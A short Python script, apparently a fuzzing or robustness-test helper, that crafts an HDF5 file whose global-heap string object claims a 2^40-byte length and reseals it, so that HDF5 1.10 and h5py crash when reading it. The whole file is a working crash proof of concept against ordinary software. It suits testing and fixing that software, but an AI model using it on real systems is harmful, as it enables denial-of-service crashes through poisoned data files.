#!/usr/bin/python3
"""craft_heap.py IN OUT NAME: a copy of the result IN in which the global-heap
object holding the string NAME (the value of a variable-length string, such
as the scenario's name) claims a length of 2^40 bytes, resealed (reseal.py):
a crafted file with a valid seal. HDF5 1.10 copies that length from the
file without checking it (H5HG_read), so reading the string crashes the
library, in cascade as in h5py (docs/FUZZING.md). Global heap layout: HDF5
File Format Specification, "Global Heap": a collection is "GCOL", version,
3 reserved bytes and its 8-byte size; each object is a 2-byte index, a
2-byte reference count, 4 reserved bytes, its 8-byte size and its data
padded to 8 bytes.
"""
import os
import struct
import subprocess
import sys

src, dst, name = sys.argv[1], sys.argv[2], sys.argv[3].encode()
data = bytearray(open(src, "rb").read())
at = 0
while True:
    at = data.find(b"GCOL", at)
    if at < 0:
        sys.exit(f"{src}: no global heap object holding {name!r}")
    end = at + struct.unpack_from("<Q", data, at + 8)[0]
    p = at + 16
    while p + 16 <= end:
        idx, size = struct.unpack_from("<H", data, p)[0], struct.unpack_from("<Q", data, p + 8)[0]
        if idx == 0:
            break  # free space: the rest of the collection
        if bytes(data[p + 16:p + 16 + size]) == name:
            struct.pack_into("<Q", data, p + 8, 1 << 40)
            open(dst, "wb").write(data)
            subprocess.run([sys.executable, os.path.join(os.path.dirname(__file__), "reseal.py"), dst],
                           check=True)
            sys.exit(0)
        p += 16 + (size + 7) // 8 * 8
    at += 4
